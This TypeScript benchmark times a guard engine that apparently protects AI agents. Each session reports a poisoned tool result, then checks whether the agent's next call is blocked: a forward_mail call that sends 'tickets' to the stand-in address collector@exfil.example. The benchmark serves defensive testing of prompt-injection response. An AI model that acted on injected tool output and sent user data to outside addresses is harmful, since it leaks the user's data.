/**
 * The inline path of a whole engine with durable storage: how long a decision takes inside the process, and how long from
 * the moment a poisoned result is reported until the contraction it causes blocks the next call.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { LOCAL_OPERATOR } from '../../services/gateway/service.js';
import { type Engine, up } from '../../services/main.js';
import { loadPlaybooks } from '../../services/respond/playbook/load.js';
import { loadConfig } from '../../services/runtime/config.js';
import { createLog } from '../../services/runtime/log.js';
import { packageRoot } from '../../services/runtime/package-root.js';
import { POISON } from '../scenarios/traffic.js';
import { distribution, inMs } from './distribution.js';

async function ask(engine: Engine, path: string, body: unknown): Promise<Record<string, unknown>> {
  const answer = await engine.gateway.handle({
    method: 'POST',
    path,
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
    principal: LOCAL_OPERATOR,
  });
  if (answer.status !== 200) throw new Error(`${path} answered ${answer.status}: ${answer.body}`);
  return JSON.parse(answer.body) as Record<string, unknown>;
}

const evaluation = (session: string, id: string, tool: string, args: unknown): unknown => ({
  subject: { type: 'agent', id: 'bench' },
  action: { name: 'call' },
  resource: { type: 'tool', id: tool, properties: { arguments: args } },
  context: { session, toolCallId: id },
});

export async function benchInline(sessions = 300): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'stepdown-bench-'));
  const { playbooks } = loadPlaybooks([join(packageRoot(), 'playbooks')]);
  writeFileSync(
    join(dir, 'overrides.yaml'),
    `apiVersion: stepdown/v1\nkind: Overrides\nplaybooks:\n${playbooks.map(({ id }) => `  ${id}: {mode: enforce, reason: bench, owner: bench}`).join('\n')}\n`,
  );
  const config = loadConfig({
    env: {},
    overrides: {
      dataDir: join(dir, 'data'),
      log: { level: 'error' },
      ingest: { otlp: { port: 0 } },
      gateway: { port: 0 },
      respond: { overrides: join(dir, 'overrides.yaml') },
    },
  });
  const engine = await up(config, { log: createLog(config) });
  const decided: number[] = [];
  const enforced: number[] = [];
  let blocked = 0;
  try {
    for (let i = 0; i < sessions; i++) {
      const session = `bench-${i}`;
      const event = (kind: string, more: object): unknown => ({
        kind,
        agent: { id: 'bench' },
        session: { id: session },
        timeMs: Date.now(),
        ...more,
      });
      await ask(engine, '/v1/events', event('prompt', { text: 'Please look after ticket 312.' }));
      for (let call = 0; call < 5; call++) {
        const begun = performance.now();
        await ask(engine, '/access/v1/evaluation', evaluation(session, `r${call}`, 'read_ticket', { id: 312 + call }));
        if (i > 20) decided.push(performance.now() - begun);
      }
      const begun = performance.now();
      await ask(engine, '/v1/events', event('tool.result', { tool: 'read_ticket', toolCallId: 'r0', text: POISON }));
      const answer = await ask(
        engine,
        '/access/v1/evaluation',
        evaluation(session, 's', 'forward_mail', { to: 'collector@exfil.example', body: 'tickets' }),
      );
      if (i > 20) enforced.push(performance.now() - begun);
      if (answer['decision'] === false) blocked++;
    }
  } finally {
    await engine.stop();
    rmSync(dir, { recursive: true, force: true });
  }
  console.log(
    `evaluation      ${inMs(distribution(decided))}  in process: request parsed, call judged, decided, answer written`,
  );
  console.log(
    `report→enforced ${inMs(distribution(enforced))}  durable ledger included; ${blocked} of ${sessions} next calls stopped (aim p99 ≤ 10 ms)`,
  );
}
